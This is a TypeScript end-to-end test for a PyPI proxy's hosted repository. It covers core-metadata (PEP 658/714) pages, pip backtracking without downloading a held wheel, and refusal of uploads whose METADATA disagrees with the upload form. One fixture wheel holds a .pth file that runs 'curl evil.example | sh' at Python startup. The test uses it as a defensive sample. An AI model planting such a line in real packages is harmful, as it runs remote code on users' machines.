/**
 * Core metadata of uploaded wheels (PEP 658/714) with the real twine and pip: the page offers each
 * wheel's METADATA with its sha256 (JSON `core-metadata`, HTML `data-core-metadata`), an sdist's
 * none; `<file>.metadata` is the wheel's exact METADATA, from the hosted repository and through a
 * group; pip resolves from it, backtracking past a version whose wheel it never downloads (the
 * request log shows the `.metadata` asked for and the wheel not); and an upload whose METADATA
 * names another version or project than the form twine sends is refused, twine printing why.
 * Skipped, saying so, without twine (`apt-get install twine`).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { pino } from 'pino';
import { buildSdist, buildWheel, coreMetadata, FixturePypiIndex, pip, pythonImport, twineUpload, twineVersion, type RunResult } from '../../support/pypi-index/index.ts';
import { startAirlock } from '../../support/start-airlock.ts';
import { createToken } from '../npm/support.ts';
import { OLD } from './support.ts';

const version = await twineVersion();
const skip = version === null ? 'twine is not installed (apt-get install twine): the hosted pypi end-to-end tests need it' : false;

/** What a client printed, its line wrapping undone. */
const out = (r: RunResult): string => (r.stdout + r.stderr).replace(/\s+/g, ' ');
const sha256 = (b: Uint8Array): string => createHash('sha256').update(b).digest('hex');

interface JsonPage {
  readonly files: ReadonlyArray<{ readonly filename: string; readonly url: string; readonly 'core-metadata'?: unknown; readonly 'dist-info-metadata'?: unknown }>;
}

test('hosted pypi: uploaded wheels offer their core metadata; pip resolves from it without the wheel; a METADATA that disagrees with the form is refused', { skip }, async (t) => {
  const index = await new FixturePypiIndex().start();
  t.after(() => index.close());
  const w = buildWheel({ name: 'public-tool', version: '2.0' });
  index.addFile('public-tool', { filename: w.filename, bytes: w.bytes, metadata: w.metadata, uploadTime: OLD });
  const tmp = await mkdtemp(join(tmpdir(), 'airlock-pypi-hosted-metadata-'));
  t.after(() => rm(tmp, { recursive: true, force: true }));
  // The access log, for which files pip asked for.
  const urls: string[] = [];
  const logger = pino(
    { level: 'info' },
    new Writable({
      write(chunk: Buffer, _enc, done) {
        for (const line of chunk.toString('utf8').split('\n')) {
          if (line === '') continue;
          const entry = JSON.parse(line) as { msg?: string; url?: string };
          if (entry.msg === 'request' && entry.url !== undefined) urls.push(entry.url);
        }
        done();
      },
    }),
  );
  const config = {
    server: { accessLog: true },
    repositories: [
      { name: 'pypi', format: 'pypi', upstream: index.url, filesUpstream: index.filesUrl },
      { name: 'internal', format: 'pypi', kind: 'hosted' },
      { name: 'python', format: 'pypi', kind: 'group', members: ['internal', 'pypi'], publishTo: 'internal' },
    ],
  };
  const airlock = await startAirlock({ config, logger });
  t.after(() => airlock.close());
  const hosted = `${airlock.url}/internal/`;
  const publisher = await createToken(airlock, 'publisher', 'release-bot');
  let n = 0;
  const file = async (built: { readonly filename: string; readonly bytes: Buffer }, as: string = built.filename): Promise<string> => {
    const dir = join(tmp, `dist-${++n}`);
    await mkdir(dir);
    await writeFile(join(dir, as), built.bytes);
    return join(dir, as);
  };

  // acme-lib 2.0 needs a project no index has, and its wheel runs code at every Python start (held
  // when downloaded); 1.0 is plain; acme-app needs acme-lib.
  const lib1 = buildWheel({ name: 'acme-lib', version: '1.0' });
  const lib2 = buildWheel({ name: 'acme-lib', version: '2.0', requiresDist: ['acme-absent>=1'], files: { 'acme_lib-init.pth': 'import os; os.system("curl evil.example | sh")\n' } });
  const app = buildWheel({ name: 'acme-app', version: '1.0', requiresDist: ['acme-lib'] });
  const sdist = buildSdist({ name: 'acme-lib', version: '1.0' });
  const uploaded = await twineUpload(hosted, publisher, [await file(lib1), await file(lib2), await file(app), await file(sdist)]);
  assert.equal(uploaded.code, 0, out(uploaded));

  // The pages offer each wheel's METADATA by its sha256 (PEP 714 and PEP 658 names), an sdist's none.
  const page = (await (await fetch(`${hosted}simple/acme-lib/`, { headers: { accept: 'application/vnd.pypi.simple.v1+json' } })).json()) as JsonPage;
  const listed = (filename: string) => page.files.find((f) => f.filename === filename);
  assert.deepEqual(listed(lib1.filename)?.['core-metadata'], { sha256: sha256(lib1.metadata) });
  assert.deepEqual(listed(lib1.filename)?.['dist-info-metadata'], { sha256: sha256(lib1.metadata) });
  assert.deepEqual(listed(lib2.filename)?.['core-metadata'], { sha256: sha256(lib2.metadata) });
  assert.equal(listed(sdist.filename)?.['core-metadata'], undefined);
  const html = await (await fetch(`${hosted}simple/acme-lib/`)).text();
  assert.match(html, new RegExp(`acme_lib-1\\.0-py3-none-any\\.whl#sha256=[0-9a-f]{64}" data-core-metadata="sha256=${sha256(lib1.metadata)}" data-dist-info-metadata="sha256=${sha256(lib1.metadata)}"`));
  assert.doesNotMatch(html, /acme_lib-1\.0\.tar\.gz#sha256=[0-9a-f]{64}" data-core-metadata/);

  // <file>.metadata is the wheel's exact METADATA, from the hosted repository and through the group.
  const metadataUrl = new URL(`${listed(lib1.filename)?.url}.metadata`, `${hosted}simple/acme-lib/`);
  const direct = await fetch(metadataUrl);
  assert.equal(direct.status, 200);
  assert.deepEqual(Buffer.from(await direct.arrayBuffer()), lib1.metadata);
  const groupPage = (await (await fetch(`${airlock.url}/python/simple/acme-lib/`, { headers: { accept: 'application/vnd.pypi.simple.v1+json' } })).json()) as JsonPage;
  const viaGroup = groupPage.files.find((f) => f.filename === lib2.filename);
  assert.deepEqual(viaGroup?.['core-metadata'], { sha256: sha256(lib2.metadata) });
  const groupMetadata = await fetch(new URL(`${viaGroup?.url}.metadata`, `${airlock.url}/python/simple/acme-lib/`));
  assert.equal(groupMetadata.status, 200);
  assert.deepEqual(Buffer.from(await groupMetadata.arrayBuffer()), lib2.metadata);

  // pip takes acme-lib 2.0 first, learns from its METADATA alone that it cannot be satisfied, and
  // installs 1.0: 2.0's wheel is never downloaded (it would be held, and pip would fail on the 403).
  urls.length = 0;
  const target = join(tmp, 'target');
  const installed = await pip(['install', '--index-url', `${hosted}simple/`, '--retries', '0', '--target', target, 'acme-app']);
  assert.equal(installed.code, 0, out(installed));
  assert.equal(await pythonImport(target, 'acme_lib'), '1.0');
  const asked = (suffix: string): boolean => urls.some((u) => u.endsWith(suffix));
  assert.ok(asked(`/${lib2.filename}.metadata`), `pip read acme-lib 2.0's METADATA: ${urls.join(' ')}`);
  assert.ok(!asked(`/${lib2.filename}`), `pip did not download acme-lib 2.0's wheel: ${urls.join(' ')}`);
  assert.ok(asked(`/${lib1.filename}.metadata`) && asked(`/${lib1.filename}`), `pip read 1.0's METADATA and downloaded its wheel: ${urls.join(' ')}`);

  // A wheel whose METADATA gives another version than its name and the form (twine reads the name
  // and version from a METADATA at the archive's root, which pip never reads): refused, twine says why.
  const smuggled = buildWheel({ name: 'acme-lib', version: '3.0', files: { METADATA: coreMetadata({ name: 'acme-lib', version: '2.5' }) } });
  const otherVersion = await twineUpload(hosted, publisher, [await file(smuggled, 'acme_lib-2.5-py3-none-any.whl')]);
  assert.notEqual(otherVersion.code, 0);
  assert.match(out(otherVersion), /400 Bad Request/);
  assert.match(out(otherVersion), /acme_lib-2\.5-py3-none-any\.whl: its METADATA gives the version "3\.0", the upload form "2\.5" \(compared as PEP 440 versions\)/);
  // The same for another project's METADATA; a form that differs only in spelling is the same project and version.
  const renamed = buildWheel({ name: 'acme-other', version: '2.6', files: { METADATA: coreMetadata({ name: 'acme-lib', version: '2.6' }) } });
  const otherName = await twineUpload(hosted, publisher, [await file(renamed, 'acme_lib-2.6-py3-none-any.whl')]);
  assert.notEqual(otherName.code, 0);
  assert.match(out(otherName), /acme_lib-2\.6-py3-none-any\.whl: its METADATA names the project "acme-other", the upload form "acme-lib" \(compared as PEP 503 names\)/);
  const spelled = buildWheel({ name: 'Acme_Lib', version: '2.7.0', files: { METADATA: coreMetadata({ name: 'acme.lib', version: '2.7' }) } });
  const sameProject = await twineUpload(hosted, publisher, [await file(spelled, 'acme_lib-2.7-py3-none-any.whl')]);
  assert.equal(sameProject.code, 0, out(sameProject));
  const versions = (await (await fetch(`${hosted}simple/acme-lib/`, { headers: { accept: 'application/vnd.pypi.simple.v1+json' } })).json()) as { versions: string[] };
  assert.deepEqual(versions.versions, ['1.0', '2.0', '2.7'], 'no refused upload was listed');
});
